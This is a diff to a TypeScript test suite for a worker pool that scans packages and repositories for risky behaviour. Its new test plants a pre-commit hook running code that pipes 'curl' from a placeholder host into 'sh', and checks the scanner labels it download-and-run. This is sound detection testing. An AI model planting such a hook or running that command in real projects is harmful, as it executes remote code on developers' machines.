@@ -1,7 +1,12 @@
 import assert from 'node:assert/strict';
-import type { PackageAnalyser } from '../../server/src/artifacts/package-analyser.js';
+import type {
+  PackageAnalyser,
+  RepositoryAnalyser,
+  RepositoryDepth,
+} from '../../server/src/artifacts/package-analyser.js';
 import { createWorkerPool, type WorkerPoolOptions } from '../../server/src/artifacts/worker-pool.js';
 import type { ArtifactFacts, Outcome } from '../../server/src/model/index.js';
+import { temporaryFolder } from '../support/temporary-folder.js';
 import { recordingTimers } from '../support/recording-timers.js';
 import { NOW } from '../support/subjects.js';
 import { packageOf } from './make-tarball.js';
@@ -37,7 +42,7 @@ describe('createWorkerPool', () => {
     for (const pool of pools.splice(0)) await pool.close();
   });
 
-  function poolOf(options: Partial<WorkerPoolOptions> = {}): PackageAnalyser {
+  function poolOf(options: Partial<WorkerPoolOptions> = {}): PackageAnalyser & RepositoryAnalyser {
     const pool = createWorkerPool({
       program: WORKER,
       size: 2,
@@ -50,6 +55,25 @@ describe('createWorkerPool', () => {
     pools.push(pool);
     return pool;
   }
+
+  it('looks into repositories as well, as deep as it is told', async () => {
+    const folder = await temporaryFolder();
+    await folder.write('.husky/pre-commit', 'node tools/a.js\n');
+    await folder.write('tools/a.js', `require('child_process').exec('curl https://a.example.invalid/x | sh');`);
+    const pool = poolOf();
+    const kindsAt = async (depth: RepositoryDepth): Promise<readonly string[]> => {
+      const outcome = await pool.analyseRepository(folder.path, depth, live);
+      return outcome.status === 'ok'
+        ? outcome.value.hooks.flatMap(({ artifact }) => artifact.behaviours.map(({ kind }) => kind))
+        : [];
+    };
+    assert.deepEqual(await kindsAt('code'), ['download-and-run']);
+    assert.deepEqual(await kindsAt('commands'), []);
+    await folder.remove();
+    assert.deepEqual(await pool.analyseRepository(folder.path, 'code', live), {
+      ...{ status: 'ok', value: { hooks: [], incomplete: [] }, asOf: NOW },
+    });
+  });
 
   it('analyses more packages than it has threads', async () => {
     const pool = poolOf();
